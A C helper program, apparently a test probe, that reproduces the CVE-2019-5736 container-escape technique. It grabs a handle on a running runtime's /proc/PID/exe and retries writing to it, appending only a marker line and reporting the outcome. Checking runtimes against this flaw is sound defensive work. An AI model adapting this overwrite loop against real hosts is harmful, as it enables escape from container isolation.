// overwrite_exe PID | scan: what a CVE-2019-5736 exploit does with CAP_SYS_PTRACE. Takes a handle
// (O_PATH) on /proc/PID/exe while PID runs the runtime, then for up to 10 s tries to reopen it for
// writing (refused with ETXTBSY while anyone runs it) and append a line. With "scan", PID is the
// first process seen within 10 s that runs neither busybox nor this helper: the runtime, such as
// an exec's process before its execve. Prints one word of what happened: no-handle,
// not-seen, written, write-refused, reopen-refused or busy.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

// A handle on the exe of the first runtime process found, or -1 after 10 s.
static int scan_for_runtime(void) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    char self[16];
    snprintf(self, sizeof self, "%d", getpid());
    for (;;) {
        DIR* proc = opendir("/proc");
        if (!proc) return -1;
        struct dirent* e;
        while ((e = readdir(proc))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self)) continue;
            // Everything else here runs busybox or this helper.
            char path[64], exe[256];
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            ssize_t n = readlink(path, exe, sizeof exe - 1);
            if (n <= 0) continue;
            exe[n] = 0;
            if (strstr(exe, "busybox") || strstr(exe, "overwrite_exe")) continue;
            int handle = open(path, O_PATH);
            if (handle >= 0) {
                closedir(proc);
                return handle;
            }
        }
        closedir(proc);
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec >= 10) return -1;
    }
}

int main(int argc, char** argv) {
    if (argc != 2) return 2;
    char path[64];
    int handle;
    if (!strcmp(argv[1], "scan")) {
        handle = scan_for_runtime();
        if (handle < 0) {
            printf("not-seen\n");
            return 0;
        }
    } else {
        snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
        handle = open(path, O_PATH);
        if (handle < 0) {
            printf("no-handle (%s)\n", strerror(errno));
            return 0;
        }
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    for (int i = 0; i < 1000; ++i) {
        int w = open(path, O_WRONLY | O_APPEND);
        if (w >= 0) {
            const char line[] = "\noverwritten by a container\n";
            if (write(w, line, sizeof line - 1) == (ssize_t)(sizeof line - 1))
                printf("written\n");
            else
                printf("write-refused (%s)\n", strerror(errno));
            return 0;
        }
        if (errno != ETXTBSY) {
            printf("reopen-refused (%s)\n", strerror(errno));
            return 0;
        }
        usleep(10000);
    }
    printf("busy\n");
    return 0;
}
